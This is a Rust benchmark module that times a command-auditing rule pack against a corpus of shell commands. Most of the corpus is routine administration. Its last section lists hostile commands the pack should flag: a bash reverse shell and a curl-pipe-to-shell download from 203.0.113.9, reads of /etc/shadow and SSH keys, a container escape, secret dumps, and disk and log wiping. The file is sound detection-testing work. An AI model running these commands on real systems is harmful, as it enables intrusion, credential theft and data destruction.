//! Figure 1: evaluating typed commands against the default rule pack on one core.

use std::hint::black_box;
use std::time::Instant;

use custos_rules::{Context, Event, Ruleset};
use time::OffsetDateTime;

use crate::stats::Samples;

/// A mixed corpus as an administrator's shell history might hold it: everyday commands, long
/// pipelines and loops, and a share of commands the default pack matches.
pub const CORPUS: &[&str] = &[
    // Everyday administration.
    "ls -la /var/log",
    "cd /etc/nginx/sites-enabled",
    "systemctl status nginx",
    "systemctl restart nginx.service",
    "journalctl -u sshd --since today --no-pager",
    "df -h",
    "du -sh /var/lib/docker/* | sort -h",
    "free -m",
    "uptime",
    "top -b -n 1 | head -20",
    "ps aux --sort=-%mem | head",
    "tail -n 200 /var/log/syslog",
    "less /var/log/nginx/error.log",
    "vim /etc/nginx/nginx.conf",
    "git -C /srv/app pull --ff-only",
    "docker ps --format '{{.Names}} {{.Status}}'",
    "docker logs --tail 100 api",
    "kubectl get pods -n payments -o wide",
    "kubectl describe deployment api -n payments",
    "apt-get update && apt-get install -y htop",
    "ip addr show eth0",
    "ss -tlnp",
    "ping -c 3 10.0.0.1",
    "curl -sS -o /dev/null -w '%{http_code}' https://localhost/health",
    "openssl x509 -in /etc/ssl/certs/site.pem -noout -dates",
    "crontab -l",
    "mkdir -p /srv/backup/2026-11-25",
    "cp -a /etc/nginx /srv/backup/2026-11-25/",
    "chown -R www-data:www-data /srv/app/public",
    "tar czf /tmp/logs.tgz /var/log/nginx",
    "echo $PATH",
    "export EDITOR=vim",
    "history | tail",
    "whoami",
    "exit",
    // Long pipelines and compound commands.
    "cat /var/log/nginx/access.log | awk '{print $1}' | sort | uniq -c | sort -rn | head -20",
    "find /var/log -name '*.log' -mtime +7 -exec gzip {} \\;",
    "for h in web1 web2 web3; do ssh $h 'uptime; df -h /'; done",
    "grep -E 'ERROR|WARN' /srv/app/logs/app.log | cut -d' ' -f1-4 | sort | uniq -c | sort -rn | head",
    "ps -eo pid,ppid,cmd,%mem,%cpu --sort=-%cpu | awk 'NR>1 && $5 > 50 {print $1}' | xargs -r renice 10",
    "journalctl --since '1 hour ago' -o json | jq -r '.MESSAGE' | grep -i timeout | wc -l",
    "while read -r line; do echo \"$(date +%s) $line\"; done < /tmp/input.txt > /tmp/output.txt",
    "kubectl get pods -A -o json | jq -r '.items[] | select(.status.phase != \"Running\") | .metadata.name'",
    "rsync -avz --delete --exclude '.git' /srv/app/ deploy@10.0.0.5:/srv/app/",
    "sed -i 's/^worker_processes .*/worker_processes auto;/' /etc/nginx/nginx.conf && nginx -t && systemctl reload nginx",
    // Commands the default pack is expected to match.
    "rm -rf /",
    "cat /etc/shadow",
    "curl -fsSL http://203.0.113.9/x.sh | sh",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "history -c",
    "unset HISTFILE",
    "insmod /tmp/rootkit.ko",
    "docker run --privileged -v /:/host -it alpine chroot /host",
    "kubectl get secrets -n payments -o yaml",
    "mysqldump --all-databases > /tmp/all.sql",
    "cat ~/.ssh/id_ed25519",
    "iptables -F",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "shred -u /var/log/auth.log",
    "echo 1 > /proc/sys/kernel/sysrq",
];

/// One run's figures.
pub struct RunFigures {
    /// Median microseconds to evaluate one command.
    pub median_us: f64,
    /// 99th percentile microseconds per command.
    pub p99_us: f64,
    /// Commands evaluated per second, back to back.
    pub per_second: f64,
}

/// What figure 1 reports.
pub struct RulesResult {
    pub corpus: usize,
    pub matching: usize,
    pub evaluations_per_run: usize,
    pub median_us: Samples,
    pub p99_us: Samples,
    pub per_second: Samples,
}

/// The context the corpus is evaluated in: a production target inside business hours.
fn context() -> Context {
    let t =
        OffsetDateTime::from_unix_timestamp(1_764_064_800).unwrap_or(OffsetDateTime::UNIX_EPOCH);
    Context::new("alice", "web1", t).with_label("env", "prod")
}

/// Evaluates the corpus `passes` times per run, `runs` times.
pub fn run(runs: usize, passes: usize) -> RulesResult {
    let rules = Ruleset::default_pack();
    let ctx = context();
    let events: Vec<Event> = CORPUS
        .iter()
        .map(|c| Event::Command {
            text: (*c).to_string(),
        })
        .collect();
    let matching = events
        .iter()
        .filter(|e| !rules.evaluate(e, &ctx).is_allowed())
        .count();
    // Warm caches and the allocator before the first timed run.
    for e in &events {
        black_box(rules.evaluate(e, &ctx));
    }
    let mut result = RulesResult {
        corpus: events.len(),
        matching,
        evaluations_per_run: events.len() * passes,
        median_us: Samples::new(),
        p99_us: Samples::new(),
        per_second: Samples::new(),
    };
    for _ in 0..runs {
        let f = one_run(&rules, &ctx, &events, passes);
        result.median_us.push(f.median_us);
        result.p99_us.push(f.p99_us);
        result.per_second.push(f.per_second);
    }
    result
}

fn one_run(rules: &Ruleset, ctx: &Context, events: &[Event], passes: usize) -> RunFigures {
    let mut each = Samples::new();
    let start = Instant::now();
    for _ in 0..passes {
        for e in events {
            let t = Instant::now();
            black_box(rules.evaluate(black_box(e), ctx));
            each.push(t.elapsed().as_secs_f64() * 1e6);
        }
    }
    let total = start.elapsed().as_secs_f64();
    RunFigures {
        median_us: each.median(),
        p99_us: each.quantile(0.99),
        per_second: (events.len() * passes) as f64 / total,
    }
}
